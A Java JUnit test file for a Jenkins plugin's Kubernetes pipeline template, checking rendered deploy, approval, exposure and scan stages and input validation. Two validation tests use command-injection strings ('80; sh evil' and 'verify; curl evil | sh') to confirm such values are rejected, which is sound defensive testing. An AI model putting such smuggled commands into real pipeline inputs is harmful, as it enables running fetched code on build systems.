package io.jenkins.plugins.skylark.templates;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import io.jenkins.plugins.skylark.template.InvalidValuesException;
import io.jenkins.plugins.skylark.template.ScriptFacts;
import io.jenkins.plugins.skylark.template.TemplateDescriptor;
import io.jenkins.plugins.skylark.template.TemplateEngine;

import org.junit.jupiter.api.Test;

class JavaServiceKubernetesTest {

    private final TemplateDescriptor template = Catalogue.TEMPLATES.get("java-service-kubernetes").orElseThrow();

    @Test
    void shouldDeployOnceAndReportOnTheFirstEnvironmentWithoutPromotion() {
        String text = render(Map.of());

        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).containsSubsequence("checkout", "platformBuild",
                "platformImage", "platformDeploy", "deliveryReport", "archiveArtifacts").doesNotContain("input")
                .containsOnlyOnce("platformDeploy")
                .doesNotContain("sh", "platformScan", "platformImageScan");
        assertThat(text).contains("platformBuild(application: 'orders', tool: 'maven', args: 'clean verify')");
        assertThat(text).contains("deliveryReport(format: 'html', application: 'orders', environment: 'dev',");
    }

    @Test
    void shouldAskTheSecondEnvironmentsApproversThroughSkylarkBeforeDeployingThere() {
        String text = render(Map.of("promote", true, "secondEnvironment", "prod", "approvalTimeoutHours", 8));

        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).containsSubsequence("platformDeploy", "library",
                "withPlatform", "platformApprove", "withPlatform", "platformDeploy", "deliveryReport")
                .doesNotContain("input");
        assertThat(text).containsSubsequence("stage('Approval')", "library('skylark')",
                "withPlatform(project: 'shop', environment: 'prod') {",
                "platformApprove(environment: 'prod', application: 'orders', message: 'Deploy to the second environment?',",
                "timeout: 8 * 60)", "stage('Deploy to prod')");
    }

    @Test
    void shouldLeaveTheApproversToThePlatformModel() {
        assertThat(errors(Map.of("promote", true, "approvers", "ops"))).singleElement().asString()
                .startsWith("approvers: template java-service-kubernetes has no such field");
    }

    @Test
    void shouldExposeAfterEachDeployInItsEnvironmentWhenAsked() {
        String text = render(Map.of("expose", true, "exposePort", 80, "promote", true, "secondEnvironment", "prod"));

        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).containsSubsequence("platformDeploy", "withPlatform",
                "platformExpose", "platformApprove", "platformDeploy", "withPlatform", "platformExpose", "deliveryReport");
        assertThat(text).containsSubsequence("stage('Deploy to dev')",
                "withPlatform(project: 'shop', environment: 'dev') {",
                "platformExpose(application: 'orders', port: 80)", "stage('Deploy to prod')",
                "withPlatform(project: 'shop', environment: 'prod') {",
                "platformExpose(application: 'orders', port: 80)");
    }

    @Test
    void shouldNeitherExposeNorAskForAPortByDefault() {
        assertThat(ScriptFacts.of("Jenkinsfile", render(Map.of("promote", true))).calls())
                .doesNotContain("platformExpose");
        assertThat(TemplateEngine.validate(template, values(Map.of())).isShown("exposePort")).isFalse();
        assertThat(render(Map.of("expose", "true"))).contains("platformExpose(application: 'orders', port: 8080)");
    }

    @Test
    void shouldRefuseAPortThatIsNotANumberOrOutOfRange() {
        assertThat(errors(Map.of("expose", true, "exposePort", "80; sh evil")))
                .singleElement().asString().startsWith("exposePort: must be of type integer");
        for (Object port : List.of(0, 65536, -80)) {
            assertThat(errors(Map.of("expose", true, "exposePort", port))).as("port %s", port)
                    .singleElement().asString().startsWith("exposePort: \"");
        }
        assertThat(render(Map.of("expose", true, "exposePort", 65535))).contains("port: 65535)");
        assertThat(errors(Map.of("promote", true, "approvalTimeoutHours", 0)))
                .singleElement().asString().startsWith("approvalTimeoutHours: \"0\" does not match");
    }

    @Test
    void shouldNotAskForTheSecondEnvironmentWithoutPromotion() {
        assertThat(TemplateEngine.validate(template, values(Map.of("secondEnvironment", "Not A Name")))
                .isShown("secondEnvironment")).isFalse();
        assertThat(errors(Map.of("promote", true, "secondEnvironment", "Not A Name")))
                .singleElement().asString().startsWith("secondEnvironment: \"Not A Name\" does not match");
    }

    @Test
    void shouldKeepShellAndNameMetacharactersOutOfTheValues() {
        assertThat(errors(Map.of("mavenGoals", "verify; curl evil | sh", "application", "Orders_1")))
                .extracting(message -> message.substring(0, message.indexOf(':')))
                .containsExactlyInAnyOrder("mavenGoals", "application");
    }

    @Test
    void shouldTellAnEditorWhichTasksAFieldFeeds() {
        assertThat(template.tasksFedBy("secondEnvironment"))
                .containsExactly("approval/approve", "deploy-second/deploy", "deploy-second/gray-release",
                        "deploy-second/gray-release-analysed", "deploy-second/expose", "notify/notify-second",
                        "report/report-second");
        assertThat(template.tasksFedBy("exposePort")).containsExactly("deploy-first/expose", "deploy-second/expose");
        assertThat(template.tasksFedBy("imageScanSeverity")).containsExactly("image-scan/harbor");
        assertThat(template.stages().get(3).tasks().get(0).exports()).containsExactly("PLATFORM_IMAGE");
    }

    @Test
    void shouldScanTheCodeAfterTheBuildAndTheImageAfterItsPushWhenAsked() {
        String text = render(Map.of("scan", true, "imageScan", true, "imageScanSeverity", "high", "imageScanMaxCount", 3));

        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).containsSubsequence("platformBuild", "platformScan",
                "platformImage", "platformImageScan", "platformDeploy");
        assertThat(text).containsSubsequence("stage('Build')", "stage('Code scan')",
                "withPlatform(project: 'shop') {", "platformScan(application: 'orders', unstableOnGateFailure: false)",
                "stage('Image')", "stage('Image scan')", "withPlatform(project: 'shop', environment: 'dev') {",
                "platformImageScan(application: 'orders', image: env.PLATFORM_IMAGE, severity: 'high',", "maxCount: 3)",
                "stage('Deploy to dev')");
        assertThat(render(Map.of("scan", true, "scanUnstable", true))).contains("unstableOnGateFailure: true)");
    }

    @Test
    void shouldOnlyAskForTheGatesOfTheScansThatRun() {
        assertThat(TemplateEngine.validate(template, values(Map.of("imageScanSeverity", "none")))
                .isShown("imageScanSeverity")).isFalse();
        assertThat(errors(Map.of("imageScan", true, "imageScanSeverity", "none", "imageScanMaxCount", -1)))
                .extracting(message -> message.substring(0, message.indexOf(':')))
                .containsExactlyInAnyOrder("imageScanSeverity", "imageScanMaxCount");
        assertThat(TemplateEngine.validate(template, values(Map.of("scanUnstable", true))).isShown("scanUnstable"))
                .isFalse();
    }

    @Test
    void shouldLeaveTheBuildOutWhenTheWorkspaceIsBuiltElsewhere() {
        String text = render(Map.of("build", false, "mavenGoals", "not; checked"));

        assertThat(text).doesNotContain("stage('Build')", "platformBuild", "mvn");
        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).containsSubsequence("checkout", "platformImage");
    }

    @Test
    void shouldLeaveTheJiraUpdatesOfEachDeployToTheEnvironmentsAutomaticIssueUpdates() {
        String text = render(Map.of("promote", true, "scan", true, "imageScan", true));

        assertThat(ScriptFacts.of("Jenkinsfile", text).calls()).noneMatch(call -> call.startsWith("jira"));
        assertThat(template.description().en()).contains("automatic issue updates");
        assertThat(template.description().zh()).contains("自动问题更新");
    }

    private String render(Map<String, ?> extra) {
        return TemplateEngine.render(template, values(extra)).text();
    }

    private List<String> errors(Map<String, ?> extra) {
        try {
            TemplateEngine.validate(template, values(extra));
        } catch (InvalidValuesException e) {
            return e.errors().stream().map(error -> error.message(Locale.ENGLISH)).toList();
        }
        throw new AssertionError("accepted " + extra);
    }

    private static Map<String, Object> values(Map<String, ?> extra) {
        Map<String, Object> values = new HashMap<>(Map.of("project", "shop", "application", "orders"));
        values.putAll(extra);
        return values;
    }
}
